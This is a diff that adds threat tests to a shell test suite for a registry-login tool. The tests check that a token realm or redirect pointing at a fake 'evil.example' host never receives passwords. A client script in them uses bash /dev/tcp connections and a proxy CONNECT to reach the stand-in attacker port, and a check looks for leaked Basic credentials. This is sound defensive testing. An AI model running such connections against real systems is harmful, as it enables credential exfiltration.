@@ -632,10 +632,117 @@ run plan.json "${made[@]}" --out t18
 check "T18: a signal during the last login ends the run" is 143
 refuse "T18: and nothing is stored" test -e t18
 
+# What a password was sent to arrives in the log of the one who should not get it.
+fake evil token /dev/null
+evil=$address
+robbed() { grep -q '\[Basic ' evil.log; }
+without_ports=
+run plan.json --dry-run
+! prints 'holds a client to no ports' && ! prints 'no Landlock' || without_ports=yes
+
 threat "T19 a realm on another host"
-note="not built yet: egress"
+if ! command -v openssl >/dev/null ||
+    ! openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=x -keyout any.key -out any.crt 2>/dev/null ||
+    ! access="token: {realm: \"https://evil.example/token\", service: x, issuer: x, rootcertbundle: $work/any.crt}" serve asks ||
+    ! internet "r.example=$address" "evil.example=$evil"; then
+    not_here "openssl or fake_internet (libssl-dev) is not there: no real names"
+else
+    write_plan realm.json r.example
+    for name in "${clients[@]}"; do
+        for_server r.example
+        secrets+=("${network[@]}")
+        : >evil.log && : >internet.log
+        run realm.json --tool "$name" --network-environment --out t19
+        check "T19: $name: it is a 1" is 1
+        check "T19: $name: the host is named" says 'it leads to evil.example:443, which is not a host of the plan'
+        refuse "T19: $name: and gets not one byte" test -s evil.log
+        refuse "T19: $name: since nobody connects to it" reached evil.example
+        check "T19: $name: though the registry was reached" reached r.example
+        run realm.json --tool "$name" --network-environment --check
+        check "T19: $name: --check blames the server" prints 'fault: server: it leads to evil.example:443'
+        refuse "T19: $name: without a byte either" test -s evil.log
+        run realm.json --tool "$name" --network-environment --out t19 --allow-host evil.example
+        check "T19: $name: where it is allowed, it gets the password" robbed
+    done
+    refuse "T19: nothing is stored" test -e t19
+fi
+fake leads realm "http://$evil/token"
+write_plan leads.json "$address"
+for_server "$address"
+for name in "${clients[@]}"; do
+    : >evil.log
+    run leads.json --tool "$name" --allow-insecure-loopback --out t19
+    if [ "$without_ports" ]; then
+        not_here "this kernel holds a client to no ports, so that it reaches any port of this machine"
+    else
+        check "T19: $name: another port of this machine is a 1" is 1
+        refuse "T19: $name: and gets not one byte" test -s evil.log
+    fi
+    run leads.json --tool "$name" --allow-insecure-loopback --out t19 --allow-host "$evil"
+    check "T19: $name: where it is allowed, it gets the password" robbed
+done
+for_server "$host"
+: >evil.log
+client "$(cat <<END
+/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/${evil##*:} && echo hello >&3 && echo REACHED'
+/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/\${HTTPS_PROXY##*:}; printf "CONNECT $evil HTTP/1.1\\r\\n\\r\\n" >&3; read -r line <&3; echo "got \$line"'
+exit 1
+END
+)"
+run plan.json "${made[@]}" --out t19
+check "T19: a client that asks for another host is refused" says 'got HTTP/1.1 403 not a host of the plan'
+[ "$without_ports" ] || refuse "T19: and cannot go there without asking" says REACHED
+refuse "T19: nothing arrives" test -s evil.log
+run plan.json "${tool[@]}" --out t19.plain
+check "T19: what is in the plan is reached" is 0
+secrets+=(HTTPS_PROXY=socks5://127.0.0.1:1)
+run plan.json "${tool[@]}" --network-environment --out t19.plain
+check "T19: a proxy that cannot be gone through is refused" is 3
+for word in '' http:// 'a b' 'r.example/x' 'u@r.example'; do
+    run plan.json "${tool[@]}" --allow-host "$word"
+    check "T19: '$word' is no host to allow" is 2
+done
+
 threat "T20 a redirect to another host"
-note="not built yet: egress and ECR"
+fake opens open
+open=$address
+fake redirects redirect "https://evil.example/v2/"
+if ! start_ecr "r.example=$address" || ! internet "$private=$registry" \
+    "api.ecr.eu-central-1.amazonaws.com=$api" "r.example=$address" "evil.example=$open"; then
+    not_here "openssl or fake_internet (libssl-dev) is not there: no real names"
+else
+    plan_for "$private"
+    for code in 301 302 303 307 308; do
+        answer "$code Elsewhere" '{}' "Location: https://evil.example/\r\n"
+        log_in
+        check "T20: ECR that leads elsewhere ($code) is a 5" is 5
+        check "T20: and is asked once" [ "$(calls)" -eq 1 ]
+    done
+    refuse "T20: no redirect is followed" reached evil.example
+    write_plan redirect.json r.example
+    for name in "${clients[@]}"; do
+        for_server r.example
+        secrets+=("${network[@]}")
+        : >opens.log && : >internet.log
+        run redirect.json --tool "$name" --network-environment --out t20
+        check "T20: $name: a login that leads elsewhere is a 1" is 1
+        check "T20: $name: the host is named" says 'it leads to evil.example:443'
+        refuse "T20: $name: and is not reached" reached evil.example
+    done
+    refuse "T20: nothing is stored" test -e t20
+fi
+fake leads redirect "http://$open/v2/"
+write_plan leads.json "$address"
+for_server "$address"
+for name in "${clients[@]}"; do
+    [ -z "$without_ports" ] || continue
+    : >opens.log
+    run leads.json --tool "$name" --allow-insecure-loopback --out t20
+    check "T20: $name: to another port of this machine too" is 1
+    refuse "T20: $name: which is not reached" test -s opens.log
+done
+write_plan plan.json "$host"
+secrets=("${good[@]}")
 
 threat "T21 a registry that lets anybody in"
 fake open open
